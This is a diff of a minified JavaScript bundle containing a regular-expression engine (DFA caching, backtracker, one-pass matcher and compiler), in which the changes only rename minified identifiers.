 length>0;){const o=r.pop();if(o===0||s.has(o))continue;s.add(o);const c=this.prog.getInst(o);switch(c.op){case ee.ALT:case ee.
 ALT_MATCH:r.push(c.out),r.push(c.arg);break;case ee.NOP:case ee.CAPTURE:r.push(c.out);break;case ee.EMPTY_WIDTH:i|=c.arg,
-(c.arg&~t)===0&&r.push(c.out)}}return{pcs:Array.from(s).sort((o,c)=>o-c),needflags:i}}getState(e,t,s){const r=YS(e,t,s),
-i=this.stateCache.get(r);if(i instanceof Co){if(tm(i,e,t,s))return i}else if(i!==void 0){for(let l=0;l<i.length;l++)if(tm(
-i[l],e,t,s))return i[l]}const o=Ut.stateCost(e,s);if(this.memBudget<o)return null;this.memBudget-=o;const c=new Co(e,t,s);
-return i===void 0?this.stateCache.set(r,c):i instanceof Co?this.stateCache.set(r,[i,c]):i.push(c),this.stateCount++,c}static stateCost(e,t){
+(c.arg&~t)===0&&r.push(c.out)}}return{pcs:Array.from(s).sort((o,c)=>o-c),needflags:i}}getState(e,t,s){const r=tT(e,t,s),
+i=this.stateCache.get(r);if(i instanceof wo){if(nm(i,e,t,s))return i}else if(i!==void 0){for(let l=0;l<i.length;l++)if(nm(
+i[l],e,t,s))return i[l]}const o=Ut.stateCost(e,s);if(this.memBudget<o)return null;this.memBudget-=o;const c=new wo(e,t,s);
+return i===void 0?this.stateCache.set(r,c):i instanceof wo?this.stateCache.set(r,[i,c]):i.push(c),this.stateCount++,c}static stateCost(e,t){
 const s=t.length===0?0:Ut.ARRAY_OVERHEAD+Ut.ELEMENT_SIZE*t.length;return Ut.STATE_OVERHEAD+Ut.ELEMENT_SIZE*e.length+s}*cachedStates(){
-for(const e of this.stateCache.values())e instanceof Co?yield e:yield*e}makeState(e,t,s){const r=this.closure(e,t&Ut.FLAG_EMPTY_MASK);
+for(const e of this.stateCache.values())e instanceof wo?yield e:yield*e}makeState(e,t,s){const r=this.closure(e,t&Ut.FLAG_EMPTY_MASK);
 let i=t;return r.needflags===0&&(i&=Ut.FLAG_MATCH),i|=r.needflags<<Ut.FLAG_NEED_SHIFT,this.getState(r.pcs,i,s)}allocTable(e,t){
 const s=this.numClasses+1,r=Ut.TABLE_OVERHEAD+Ut.ELEMENT_SIZE*s;if(this.memBudget<r)return null;this.memBudget-=r;const i=new Array(
 s).fill(null);return t===oe.UNANCHORED?e.next=i:e.nextAnchored=i,i}clearCache(){this.stateCache.clear(),this.stateCount=
 0,this.startStates.clear(),this.memBudget=this.stateBudget}resetCache(e){return this.clearCache(),this.getState(e.nfaStates,
 e.flag,e.matchIDs)}step(e,t,s,r){let i=r===oe.UNANCHORED?e.next:e.nextAnchored;if(i!==null){const O=i[t];if(O!==null)return O}else if(i=
 this.allocTable(e,r),i===null)return null;const o=e.flag>>>Ut.FLAG_NEED_SHIFT,c=e.flag&Ut.FLAG_EMPTY_MASK;let l=c,B=0;s===
-10&&(l|=xe.EMPTY_END_LINE,B|=xe.EMPTY_BEGIN_LINE),s===Ur&&(l|=xe.EMPTY_END_LINE|xe.EMPTY_END_TEXT);const d=(e.flag&Ut.FLAG_LAST_WORD)!==
-0,h=s!==Ur&&xe.isWordRune(s);l|=h===d?xe.EMPTY_NO_WORD_BOUNDARY:xe.EMPTY_WORD_BOUNDARY;let g=e.nfaStates;(l&~c&o)!==0&&(g=
-this.closure(g,l).pcs);const C=[];let y=!1,_=qc;for(let O=0;O<g.length;O++){const D=this.prog.getInst(g[O]);D.op===ee.MATCH?
-(y||(y=!0,_=[]),_.push(D.arg)):s!==Ur&&ee.isRuneOp(D.op)&&D.matchRune(s)&&C.push(D.out)}_.length>1&&_.sort((O,D)=>O-D),r===
-oe.UNANCHORED&&s!==Ur&&C.push(this.prog.start);let k=B;y&&(k|=Ut.FLAG_MATCH),h&&(k|=Ut.FLAG_LAST_WORD);const v=this.makeState(
+10&&(l|=xe.EMPTY_END_LINE,B|=xe.EMPTY_BEGIN_LINE),s===Jr&&(l|=xe.EMPTY_END_LINE|xe.EMPTY_END_TEXT);const d=(e.flag&Ut.FLAG_LAST_WORD)!==
+0,h=s!==Jr&&xe.isWordRune(s);l|=h===d?xe.EMPTY_NO_WORD_BOUNDARY:xe.EMPTY_WORD_BOUNDARY;let g=e.nfaStates;(l&~c&o)!==0&&(g=
+this.closure(g,l).pcs);const C=[];let y=!1,_=Yc;for(let O=0;O<g.length;O++){const D=this.prog.getInst(g[O]);D.op===ee.MATCH?
+(y||(y=!0,_=[]),_.push(D.arg)):s!==Jr&&ee.isRuneOp(D.op)&&D.matchRune(s)&&C.push(D.out)}_.length>1&&_.sort((O,D)=>O-D),r===
+oe.UNANCHORED&&s!==Jr&&C.push(this.prog.start);let k=B;y&&(k|=Ut.FLAG_MATCH),h&&(k|=Ut.FLAG_LAST_WORD);const v=this.makeState(
 C,k,_);return v===null?null:(i[t]=v,v)}start(e,t){const s=e.context(t);let r;if((s&xe.EMPTY_BEGIN_TEXT)!==0)r=xe.EMPTY_BEGIN_TEXT|
 xe.EMPTY_BEGIN_LINE;else if((s&xe.EMPTY_BEGIN_LINE)!==0)r=xe.EMPTY_BEGIN_LINE;else{const o=e.step(t),c=o>=0&&xe.isWordRune(
 o>>3);r=(s&xe.EMPTY_WORD_BOUNDARY)!==0!==c?Ut.FLAG_LAST_WORD:0}let i=this.startStates.get(r);if(i===void 0){if(i=this.makeState(
-[this.prog.start],r,qc),i===null&&(this.clearCache(),i=this.makeState([this.prog.start],r,qc),i===null))return null;this.
+[this.prog.start],r,Yc),i===null&&(this.clearCache(),i=this.makeState([this.prog.start],r,Yc),i===null))return null;this.
 startStates.set(r,i)}return i}stepOrReset(e,t,s,r,i,o){let c=this.step(e,t,s,r);if(c!==null)return c;if(o.resetPos>=0&&i-
 o.resetPos<Ut.PROGRESS_PER_STATE*this.stateCount)return null;o.resetPos=i;const l=this.resetCache(e);return l===null?null:
 (c=this.step(l,t,s,r),c)}run(e,t,s,r,i){const o=e.endPos(),c=this.latin1Class,l=s===oe.UNANCHORED,B={resetPos:-1};let d=t;
 for(;d<o;){const h=e.step(d),g=h>>3,C=h&7;if(C===0)break;const y=g<=$e.MAX_LATIN1?c[g]:this.runeClass(g);let _=l&&r.next!==
 null?r.next[y]:null;if(_===null&&(_=this.stepOrReset(r,y,g,s,d,B),_===null))return null;if(r=_,r.isMatch&&i(r,!1))return!0;
-if(!l&&r.nfaStates.length===0)return!1;d+=C}return r=this.stepOrReset(r,this.numClasses,Ur,s,d,B),r===null?null:r.isMatch&&
+if(!l&&r.nfaStates.length===0)return!1;d+=C}return r=this.stepOrReset(r,this.numClasses,Jr,s,d,B),r===null?null:r.isMatch&&
 i(r,!0)}match(e,t,s){if(this.failed)return null;if((s===oe.ANCHOR_START||s===oe.ANCHOR_BOTH)&&t!==0)return!1;const r=this.
 start(e,t);return r===null?null:this.run(e,t,s,r,(i,o)=>s!==oe.ANCHOR_BOTH||o)}matchSet(e,t,s){if(this.failed)return null;
 if((s===oe.ANCHOR_START||s===oe.ANCHOR_BOTH)&&t!==0)return[];const r=this.start(e,t);if(r===null)return null;const i=new Set,
 o=(c,l)=>{if(s!==oe.ANCHOR_BOTH||l)for(let B=0;B<c.matchIDs.length;B++)i.add(c.matchIDs[B]);return!1};return this.run(e,
-t,s,r,o)===null?null:Array.from(i).sort((c,l)=>c-l)}};const VS=32,QS=500,Vc=256,XS=262144;var eT=class{constructor(){this.
-end=0,this.cap=new Int32Array(0),this.matchcap=new Int32Array(0),this.ncap=0,this.jobPc=new Int32Array(Vc),this.jobArg=new Uint8Array(
-Vc),this.jobPos=new Int32Array(Vc),this.jobLen=0,this.visited=new Uint32Array(0)}reset(n,e,t){this.end=e,this.jobLen=0,this.
-ncap=t;const s=n.numInst()*(e+1)+VS-1>>>5;this.visited.length<s?this.visited=new Uint32Array(s):this.visited.fill(0,0,s),
+t,s,r,o)===null?null:Array.from(i).sort((c,l)=>c-l)}};const nT=32,sT=500,Qc=256,rT=262144;var iT=class{constructor(){this.
+end=0,this.cap=new Int32Array(0),this.matchcap=new Int32Array(0),this.ncap=0,this.jobPc=new Int32Array(Qc),this.jobArg=new Uint8Array(
+Qc),this.jobPos=new Int32Array(Qc),this.jobLen=0,this.visited=new Uint32Array(0)}reset(n,e,t){this.end=e,this.jobLen=0,this.
+ncap=t;const s=n.numInst()*(e+1)+nT-1>>>5;this.visited.length<s?this.visited=new Uint32Array(s):this.visited.fill(0,0,s),
 this.cap.length<t?this.cap=new Int32Array(t).fill(-1):this.cap.fill(-1,0,t),this.matchcap.length<t?this.matchcap=new Int32Array(
 t).fill(-1):this.matchcap.fill(-1,0,t)}shouldVisit(n,e){const t=n*(this.end+1)+e,s=t>>>5,r=1<<(t&31);return(this.visited[s]&
 r)!==0?!1:(this.visited[s]|=r,!0)}push(n,e,t,s){if(n.prog.getInst(e).op!==ee.FAIL&&(s||this.shouldVisit(e,t))){if(this.jobLen>=
@@ -6489,31 +6497,31 @@ continue}case ee.CAPTURE:if(c){this.cap[d.arg]=l;break}else{d.arg<this.ncap&&(th
 arg]=l),o=d.out;continue}case ee.EMPTY_WIDTH:{const h=e.context(l);if((d.arg&~h)!==0)break;o=d.out;continue}case ee.NOP:
 o=d.out;continue;case ee.MATCH:{if(r===oe.ANCHOR_BOTH&&l!==this.end)break;if(this.ncap===0)return!0;this.ncap>1&&(this.cap[1]=
 l);const h=this.matchcap[1];if((h===-1||i&&l>0&&l>h)&&this.matchcap.set(this.cap),!i||l===this.end)return!0;break}case ee.
-LB_WRITE:case ee.LB_CHECK:throw new go("Backtracker cannot evaluate Lookbehind instructions");default:throw new go("bad \
-inst")}break}}return i&&this.matchcap.length>1&&this.matchcap[1]>=0}};const yo=[];var wo=class gg{static shouldBacktrack(e){
-return e.numInst()<=QS}static maxBitStateLen(e){return gg.shouldBacktrack(e)?Math.floor(XS/e.numInst()):0}static execute(e,t,s,r,i){
+LB_WRITE:case ee.LB_CHECK:throw new yo("Backtracker cannot evaluate Lookbehind instructions");default:throw new yo("bad \
+inst")}break}}return i&&this.matchcap.length>1&&this.matchcap[1]>=0}};const bo=[];var _o=class Cg{static shouldBacktrack(e){
+return e.numInst()<=sT}static maxBitStateLen(e){return Cg.shouldBacktrack(e)?Math.floor(rT/e.numInst()):0}static execute(e,t,s,r,i){
 const o=e.cond;if(o===xe.EMPTY_ALL||(r===oe.ANCHOR_START||r===oe.ANCHOR_BOTH)&&s!==0||(o&xe.EMPTY_BEGIN_TEXT)!==0&&s!==0)
-return null;const c=yo.length>0?yo.pop():new eT,l=t.endPos();c.reset(e.prog,l,i);let B=!1;if((o&xe.EMPTY_BEGIN_TEXT)!==0||
+return null;const c=bo.length>0?bo.pop():new iT,l=t.endPos();c.reset(e.prog,l,i);let B=!1;if((o&xe.EMPTY_BEGIN_TEXT)!==0||
 r===oe.ANCHOR_START||r===oe.ANCHOR_BOTH)c.ncap>0&&(c.cap[0]=s),c.tryBacktrack(e,t,e.prog.start,s,r)&&(B=!0);else{let h=-1;
 for(;s<=l&&h!==0;s+=h){if(e.prefix.length>0){const C=t.index(e,s);if(C<0)break;s+=C}if(c.ncap>0&&(c.cap[0]=s),c.tryBacktrack(
-e,t,e.prog.start,s,r)){B=!0;break}const g=t.step(s);h=g===tn.EOF()?0:g&7}}if(!B)return yo.push(c),null;const d=i===0?[]:
-xe.toArray(c.matchcap.subarray(0,i));return yo.push(c),d}},nm=class{constructor(n){this.sparse=new Uint32Array(n),this.dense=
+e,t,e.prog.start,s,r)){B=!0;break}const g=t.step(s);h=g===tn.EOF()?0:g&7}}if(!B)return bo.push(c),null;const d=i===0?[]:
+xe.toArray(c.matchcap.subarray(0,i));return bo.push(c),d}},sm=class{constructor(n){this.sparse=new Uint32Array(n),this.dense=
 new Uint32Array(n),this.size=0,this.nextIndex=0}empty(){return this.nextIndex>=this.size}next(){return this.dense[this.nextIndex++]}clear(){
 this.size=0,this.nextIndex=0}contains(n){return n<this.sparse.length&&this.sparse[n]<this.size&&this.dense[this.sparse[n]]===
 n}insert(n){this.contains(n)||this.insertNew(n)}insertNew(n){n>=this.sparse.length||(this.sparse[n]=this.size,this.dense[this.
-size]=n,this.size++)}};const tT=(n,e,t,s)=>{const r=n.length,i=e.length;let o=0,c=0;const l=[],B=[];let d=!0,h=-1;const g=C=>{
+size]=n,this.size++)}};const oT=(n,e,t,s)=>{const r=n.length,i=e.length;let o=0,c=0;const l=[],B=[];let d=!0,h=-1;const g=C=>{
 const y=C?n:e,_=C?o:c,k=C?t:s;return h>0&&y[_]<=l[h]?!1:(l.push(y[_],y[_+1]),C?o+=2:c+=2,h+=2,B.push(k),!0)};for(;o<r||c<
-i;)if(c>=i?d=g(!0):o>=r||e[c]<n[o]?d=g(!1):d=g(!0),!d)return null;return{merged:l,next:B}};var nT=class{constructor(n){this.
+i;)if(c>=i?d=g(!0):o>=r||e[c]<n[o]?d=g(!1):d=g(!0),!d)return null;return{merged:l,next:B}};var aT=class{constructor(n){this.
 start=n.start,this.numCap=n.numCap,this.inst=new Array(n.inst.length);for(let e=0;e<n.inst.length;e++){const t=n.inst[e],
 s=new ee(t.op);s.out=t.out,s.arg=t.arg,s.runes=t.runes?new Int32Array(t.runes):new Int32Array(0),s.next=null,this.inst[e]=
-s}}};const sT=n=>{const e=new nT(n);for(let t=0;t<e.inst.length;t++){const s=e.inst[t];if(s.op!==ee.ALT&&s.op!==ee.ALT_MATCH)
+s}}};const cT=n=>{const e=new aT(n);for(let t=0;t<e.inst.length;t++){const s=e.inst[t];if(s.op!==ee.ALT&&s.op!==ee.ALT_MATCH)
 continue;let r="out",i="arg",o=e.inst[s[i]];if(o.op!==ee.ALT&&o.op!==ee.ALT_MATCH&&(r="arg",i="out",o=e.inst[s[i]],o.op!==
 ee.ALT&&o.op!==ee.ALT_MATCH))continue;const c=e.inst[s[r]];if(c.op===ee.ALT||c.op===ee.ALT_MATCH)continue;let l="out",B="\
-arg",d=!1;o.out===t?d=!0:o.arg===t&&(d=!0,l="arg",B="out"),d&&(o[l]=s[r]),s[r]===o[l]&&(s[i]=o[B])}return e},rT=n=>{if(n.
-inst.length>=1e3)return null;const e=new nm(n.inst.length),t=new nm(n.inst.length),s=new Array(n.inst.length),r=new Array(
+arg",d=!1;o.out===t?d=!0:o.arg===t&&(d=!0,l="arg",B="out"),d&&(o[l]=s[r]),s[r]===o[l]&&(s[i]=o[B])}return e},uT=n=>{if(n.
+inst.length>=1e3)return null;const e=new sm(n.inst.length),t=new sm(n.inst.length),s=new Array(n.inst.length),r=new Array(
 n.inst.length).fill(!1),i=o=>{let c=!0;const l=n.inst[o];if(t.contains(o))return!0;switch(t.insert(o),l.op){case ee.ALT:case ee.
 ALT_MATCH:{c=i(l.out)&&i(l.arg);let B=r[l.out],d=r[l.arg];if(B&&d)return!1;if(d){const y=l.out;l.out=l.arg,l.arg=y;const _=B;
-B=d,d=_}B&&(r[o]=!0,l.op=ee.ALT_MATCH);const h=s[l.out]||[],g=s[l.arg]||[],C=tT(h,g,l.out,l.arg);if(!C)return!1;s[o]=new Int32Array(
+B=d,d=_}B&&(r[o]=!0,l.op=ee.ALT_MATCH);const h=s[l.out]||[],g=s[l.arg]||[],C=oT(h,g,l.out,l.arg);if(!C)return!1;s[o]=new Int32Array(
 C.merged),l.next=new Uint32Array(C.next);break}case ee.CAPTURE:case ee.EMPTY_WIDTH:case ee.NOP:c=i(l.out),r[o]=r[l.out],
 s[o]=s[l.out]?new Int32Array(s[l.out]):new Int32Array(0),l.next=new Uint32Array(Math.floor(s[o].length/2)+1).fill(l.out);
 break;case ee.MATCH:case ee.FAIL:r[o]=l.op===ee.MATCH;break;case ee.RUNE:{if(r[o]=!1,l.next&&l.next.length>0)break;if(e.
@@ -6527,24 +6535,24 @@ floor(B.length/2)+1).fill(l.out),l.op=ee.RUNE;break}case ee.RUNE_ANY:if(r[o]=!1,
 out),s[o]=new Int32Array([0,$e.MAX_RUNE]),l.next=new Uint32Array([l.out]);break;case ee.RUNE_ANY_NOT_NL:if(r[o]=!1,l.next&&
 l.next.length>0)break;e.insert(l.out),s[o]=new Int32Array([0,9,11,$e.MAX_RUNE]),l.next=new Uint32Array(Math.floor(s[o].length/
 2)+1).fill(l.out)}return c};for(e.clear(),e.insert(n.start);!e.empty();)if(t.clear(),!i(e.next()))return null;for(let o=0;o<
-n.inst.length;o++)s[o]&&(n.inst[o].runes=s[o]);return n},iT=(n,e)=>{for(let t=0;t<e.inst.length;t++){const s=e.inst[t];switch(s.
+n.inst.length;o++)s[o]&&(n.inst[o].runes=s[o]);return n},lT=(n,e)=>{for(let t=0;t<e.inst.length;t++){const s=e.inst[t];switch(s.
 op){case ee.ALT:case ee.ALT_MATCH:case ee.RUNE:break;case ee.CAPTURE:case ee.EMPTY_WIDTH:case ee.NOP:case ee.MATCH:case ee.
 FAIL:n.inst[t].next=null;break;case ee.RUNE1:case ee.RUNE_ANY:case ee.RUNE_ANY_NOT_NL:n.inst[t].next=null,n.inst[t].op=s.
-op,n.inst[t].runes=s.runes?new Int32Array(s.runes):new Int32Array(0)}}};var sm=class Cg{static compile(e){if(e.start===0||
+op,n.inst[t].runes=s.runes?new Int32Array(s.runes):new Int32Array(0)}}};var rm=class yg{static compile(e){if(e.start===0||
 e.numLb>0)return null;const t=e.inst[e.start];if(t.op!==ee.EMPTY_WIDTH||(t.arg&xe.EMPTY_BEGIN_TEXT)===0)return null;let s=!1;
 for(let i=0;i<e.inst.length;i++)if(e.inst[i].op===ee.ALT||e.inst[i].op===ee.ALT_MATCH){s=!0;break}for(let i=0;i<e.inst.length;i++){
 const o=e.inst[i],c=e.inst[o.out].op;switch(o.op){case ee.ALT:case ee.ALT_MATCH:if(c===ee.MATCH||e.inst[o.arg].op===ee.MATCH)
 return null;break;case ee.EMPTY_WIDTH:if(c===ee.MATCH){if((o.arg&xe.EMPTY_END_TEXT)===xe.EMPTY_END_TEXT)continue;return null}
-break;default:if(c===ee.MATCH&&s)return null}}let r=sT(e);return r=rT(r),r!==null&&iT(r,e),r}static next(e,t){const s=e.
+break;default:if(c===ee.MATCH&&s)return null}}let r=cT(e);return r=uT(r),r!==null&&lT(r,e),r}static next(e,t){const s=e.
 matchRunePos(t);return s>=0?e.next[s]:e.op===ee.ALT_MATCH?e.out:0}static execute(e,t,s,r,i){const o=e.onepass;if(!o)return null;
 const c=new Int32Array(i).fill(-1);let l=!1,B=t.step(s),d=B>>3,h=B&7,g=tn.EOF(),C=-1,y=0;B!==tn.EOF()&&(g=t.step(s+h),g!==
 tn.EOF()&&(C=g>>3,y=g&7));let _=s===0?xe.emptyOpContext(-1,d):t.context(s),k=o.start,v;for(;;){switch(v=o.inst[k],k=v.out,
 v.op){case ee.MATCH:return r===oe.ANCHOR_BOTH&&s!==t.endPos()?null:(l=!0,c.length>0&&(c[0]=0,c[1]=s),i===0?[]:xe.toArray(
 c));case ee.RUNE:if(!v.matchRune(d))return null;break;case ee.RUNE1:if(d!==v.runes[0])return null;break;case ee.RUNE_ANY:
-break;case ee.RUNE_ANY_NOT_NL:if(d===10)return null;break;case ee.ALT:case ee.ALT_MATCH:k=Cg.next(v,d);continue;case ee.
+break;case ee.RUNE_ANY_NOT_NL:if(d===10)return null;break;case ee.ALT:case ee.ALT_MATCH:k=yg.next(v,d);continue;case ee.
 FAIL:return null;case ee.NOP:continue;case ee.EMPTY_WIDTH:if((v.arg&~_)!==0)return null;continue;case ee.CAPTURE:v.arg<c.
-length&&(c[v.arg]=s);continue;default:throw new go("bad inst")}if(h===0)break;_=xe.emptyOpContext(d,C),s+=h,d=C,h=y,d!==
--1&&(g=t.step(s+h),g!==tn.EOF()?(C=g>>3,y=g&7):(C=-1,y=0))}return l?i===0?[]:xe.toArray(c):null}},M=class We{static Op=qp(
+length&&(c[v.arg]=s);continue;default:throw new yo("bad inst")}if(h===0)break;_=xe.emptyOpContext(d,C),s+=h,d=C,h=y,d!==
+-1&&(g=t.step(s+h),g!==tn.EOF()?(C=g>>3,y=g&7):(C=-1,y=0))}return l?i===0?[]:xe.toArray(c):null}},M=class We{static Op=Yp(
 ["NO_MATCH","EMPTY_MATCH","LITERAL","CHAR_CLASS","ANY_CHAR_NOT_NL","ANY_CHAR","BEGIN_LINE","END_LINE","BEGIN_TEXT","END_\
 TEXT","WORD_BOUNDARY","NO_WORD_BOUNDARY","CAPTURE","STAR","PLUS","QUEST","REPEAT","CONCAT","ALTERNATE","PLB","NLB","LEFT\
 _PAREN","VERTICAL_BAR"]);static isPseudoOp(e){return e>=We.Op.LEFT_PAREN}static emptySubs(){return[]}static quoteIfHyphen(e){
@@ -6581,11 +6589,11 @@ return!1;break;case We.Op.STAR:case We.Op.PLUS:case We.Op.QUEST:if((this.flags&o
 !this.subs[0].equals(e.subs[0]))return!1;break;case We.Op.REPEAT:if((this.flags&oe.NON_GREEDY)!==(e.flags&oe.NON_GREEDY)||
 this.min!==e.min||this.max!==e.max||!this.subs[0].equals(e.subs[0]))return!1;break;case We.Op.CAPTURE:if(this.cap!==e.cap||
 (this.name===null?e.name!==null:this.name!==e.name)||!this.subs[0].equals(e.subs[0]))return!1;break;case We.Op.PLB:case We.
-Op.NLB:if(this.lb!==e.lb||!this.subs[0].equals(e.subs[0]))return!1}return!0}},Qc=class{static walk(n,e){const t=[];let s=n,
+Op.NLB:if(this.lb!==e.lb||!this.subs[0].equals(e.subs[0]))return!1}return!0}},Xc=class{static walk(n,e){const t=[];let s=n,
 r;for(;;){if(s.subs.length===0)r=e.leaf(s);else{const i=e.enter(s);if(i.result===void 0){t.push({re:s,state:i,i:0}),s=s.
 subs[0];continue}r=i.result}for(;;){if(t.length===0)return r;const i=t[t.length-1];if(e.child(i.re,i.state,r,i.i),i.i++,
 i.state.result===void 0&&i.i<i.re.subs.length){s=i.re.subs[i.i];break}t.pop(),r=i.state.result!==void 0?i.state.result:e.
-leave(i.re,i.state)}}}},rm=class{constructor(n,e){const t=new Map,s=[0],r=[0],i=[0],o=[0];for(const y of n){let _=0;for(let k=0;k<
+leave(i.re,i.state)}}}},im=class{constructor(n,e){const t=new Map,s=[0],r=[0],i=[0],o=[0];for(const y of n){let _=0;for(let k=0;k<
 y.length;k++){const v=_*e+y[k];let O=t.get(v);O===void 0&&(O=s.length,t.set(v,O),s.push(_),r.push(y[k]),i.push(i[_]+1),o.
 push(0)),_=O}o[_]=1}const c=s.length,l=new Int32Array(c-1);for(let y=1;y<c;y++)l[y-1]=y;l.sort((y,_)=>s[y]-s[_]||r[y]-r[_]);
 const B=new Int32Array(c+1);for(let y=1;y<c;y++)B[s[y]+1]++;for(let y=0;y<c;y++)B[y+1]+=B[y];const d=new Int32Array(c-1);
@@ -6599,11 +6607,11 @@ match[s]===1)return!0;return!1}searchUTF8(n,e,t){let s=0;for(let r=e;r<t;r++)if(
 return!0;return!1}},st=class tr{static Type={NONE:0,EXACT:1,AND:2,OR:3};static MAX_SCANS=32;static MAX_AC_UNITS=1<<18;constructor(e){
 this.type=e,this.subs=[],this.str="",this.bytes=null,this.cost=e===tr.Type.EXACT?1:0,this.allExact=!1,this.ac16=null,this.
 ac8=null}automaton16(){if(this.ac16===null){const e=this.subs.map(t=>{const s=new Array(t.str.length);for(let r=0;r<t.str.
-length;r++)s[r]=t.str.charCodeAt(r);return s});this.ac16=new rm(e,65536)}return this.ac16}automaton8(){return this.ac8===
-null&&(this.ac8=new rm(this.subs.map(e=>e.bytes),256)),this.ac8}eval(e,t){switch(this.type){case tr.Type.NONE:return!0;case tr.
+length;r++)s[r]=t.str.charCodeAt(r);return s});this.ac16=new im(e,65536)}return this.ac16}automaton8(){return this.ac8===
+null&&(this.ac8=new im(this.subs.map(e=>e.bytes),256)),this.ac8}eval(e,t){switch(this.type){case tr.Type.NONE:return!0;case tr.
 Type.EXACT:return e.hasString(this,t);case tr.Type.AND:for(let s=0;s<this.subs.length;s++)if(!this.subs[s].eval(e,t))return!1;
 return!0;case tr.Type.OR:if(this.allExact)return e.hasAnyString(this,t);for(let s=0;s<this.subs.length;s++)if(this.subs[s].
-eval(e,t))return!0;return!1;default:return!0}}},oT=class nr{static build(e){return e?Qc.walk(e,nr.WALKER):new st(st.Type.
+eval(e,t))return!0;return!1;default:return!0}}},dT=class nr{static build(e){return e?Xc.walk(e,nr.WALKER):new st(st.Type.
 NONE)}static WALKER={leaf:e=>nr.leaf(e),enter:e=>nr.enter(e),child:(e,t,s)=>nr.child(e,t,s),leave:(e,t)=>nr.leave(e,t)};static leaf(e){
 if(e.op!==M.Op.LITERAL)return new st(st.Type.NONE);if(e.runes.length===0||(e.flags&oe.FOLD_CASE)!==0)return new st(st.Type.
 NONE);let t="";for(let r=0;r<e.runes.length;r++){if($e.isUnsearchable(e.runes[r]))return new st(st.Type.NONE);t+=String.
@@ -6619,7 +6627,7 @@ type===st.Type.AND){const B=[];let d=0;for(const h of i)d+h.cost>st.MAX_SCANS||(
 new st(st.Type.NONE):B.length===1?B[0]:(s.subs=B,s.cost=d,s)}if(i.length===0)return new st(st.Type.NONE);if(i.length===1)
 return i[0];s.subs=i;let o=!0,c=0,l=0;for(const B of i)B.type!==st.Type.EXACT?o=!1:l+=B.bytes.length,c+=B.cost;return o?
 l>st.MAX_AC_UNITS?new st(st.Type.NONE):(s.allExact=!0,s.cost=1,s):c>st.MAX_SCANS?new st(st.Type.NONE):(s.cost=c,s)}},gn=class{constructor(n=0,e=0){
-this.head=n,this.tail=e}},aT=class{constructor(){this.inst=[],this.start=0,this.numCap=2,this.lbStarts=[],this.numLb=0,this.
+this.head=n,this.tail=e}},BT=class{constructor(){this.inst=[],this.start=0,this.numCap=2,this.lbStarts=[],this.numLb=0,this.
 lbInst=null}getInst(n){return this.inst[n]}numInst(){return this.inst.length}addInst(n){this.inst.push(new ee(n))}markLookbehindInsts(){
 const n=new Uint8Array(this.inst.length),e=this.lbStarts.slice();for(;e.length>0;){const t=e.pop();if(t===0||n[t]===1)continue;
 n[t]=1;const s=this.inst[t];switch(s.op){case ee.ALT:case ee.ALT_MATCH:e.push(s.out,s.arg);break;case ee.MATCH:case ee.FAIL:
@@ -6632,26 +6640,26 @@ break e}e=t.out}return n}patch(n,e){let t=n.head;for(;t!==0;){const s=this.inst[
 s.arg=e)}}append(n,e){if(n.head===0)return e;if(e.head===0)return n;const t=this.inst[n.tail>>1];return(n.tail&1)===0?t.
 out=e.head:t.arg=e.head,new gn(n.head,e.tail)}toString(){let n="";for(let e=0;e<this.inst.length;e++){const t=n.length;n+=
 e,e===this.start&&(n+="*"),n+="        ".substring(n.length-t),n+=this.inst[e],n+=`
-`}return n}};const cT=new Int32Array([0,ce.CODES[`
+`}return n}};const fT=new Int32Array([0,ce.CODES[`
 `]-1,ce.CODES[`
-`]+1,$e.MAX_RUNE]),im=new Int32Array([0,$e.MAX_RUNE]);var bo=class{constructor(n=0,e=new gn,t=!1){this.i=n,this.out=e,this.
-nullable=t}},om=class gu{static compileRegexp(e){const t=new gu,s=t.compile(e);return t.prog.patch(s.out,t.newInst(ee.MATCH).
-i),t.prog.start=s.i,t.prog.markLookbehindInsts(),t.prog}static compileSet(e){const t=new gu;if(e.length===0)return t.prog.
+`]+1,$e.MAX_RUNE]),om=new Int32Array([0,$e.MAX_RUNE]);var Eo=class{constructor(n=0,e=new gn,t=!1){this.i=n,this.out=e,this.
+nullable=t}},am=class Cu{static compileRegexp(e){const t=new Cu,s=t.compile(e);return t.prog.patch(s.out,t.newInst(ee.MATCH).
+i),t.prog.start=s.i,t.prog.markLookbehindInsts(),t.prog}static compileSet(e){const t=new Cu;if(e.length===0)return t.prog.
 start=t.newInst(ee.FAIL).i,t.prog.markLookbehindInsts(),t.prog;let s=[];for(let i=0;i<e.length;i++){t.lbOffset=t.prog.numLb;
 const o=t.compile(e[i]),c=t.newInst(ee.MATCH);t.prog.getInst(c.i).arg=i,t.prog.patch(o.out,c.i),s.push(o.i)}let r=s[0];for(let i=1;i<
 s.length;i++){const o=t.newInst(ee.ALT),c=t.prog.getInst(o.i);c.out=r,c.arg=s[i],r=o.i}return t.prog.start=r,t.prog.markLookbehindInsts(),
-t.prog}constructor(){this.prog=new aT,this.newInst(ee.FAIL),this.lbOffset=0,this.runeCache=new Map,this.walker={leaf:e=>this.
+t.prog}constructor(){this.prog=new BT,this.newInst(ee.FAIL),this.lbOffset=0,this.runeCache=new Map,this.walker={leaf:e=>this.
 leaf(e),enter:e=>this.enter(e),child:(e,t,s)=>this.child(e,t,s),leave:(e,t)=>this.leave(e,t)}}newInst(e){return this.prog.
-addInst(e),new bo(this.prog.numInst()-1,new gn,!0)}nop(){const e=this.newInst(ee.NOP);return e.out=new gn(e.i<<1,e.i<<1),
-e}fail(){return new bo}cap(e){const t=this.newInst(ee.CAPTURE);return t.out=new gn(t.i<<1,t.i<<1),this.prog.getInst(t.i).
+addInst(e),new Eo(this.prog.numInst()-1,new gn,!0)}nop(){const e=this.newInst(ee.NOP);return e.out=new gn(e.i<<1,e.i<<1),
+e}fail(){return new Eo}cap(e){const t=this.newInst(ee.CAPTURE);return t.out=new gn(t.i<<1,t.i<<1),this.prog.getInst(t.i).
 arg=e,this.prog.numCap<e+1&&(this.prog.numCap=e+1),t}cat(e,t){return e.i===0||t.i===0?(this.prog.patch(e.out,0),this.prog.
-patch(t.out,0),this.fail()):(this.prog.patch(e.out,t.i),new bo(e.i,t.out,e.nullable&&t.nullable))}alt(e,t){if(e.i===0)return t;
+patch(t.out,0),this.fail()):(this.prog.patch(e.out,t.i),new Eo(e.i,t.out,e.nullable&&t.nullable))}alt(e,t){if(e.i===0)return t;
 if(t.i===0)return e;const s=this.newInst(ee.ALT),r=this.prog.getInst(s.i);return r.out=e.i,r.arg=t.i,s.out=this.prog.append(
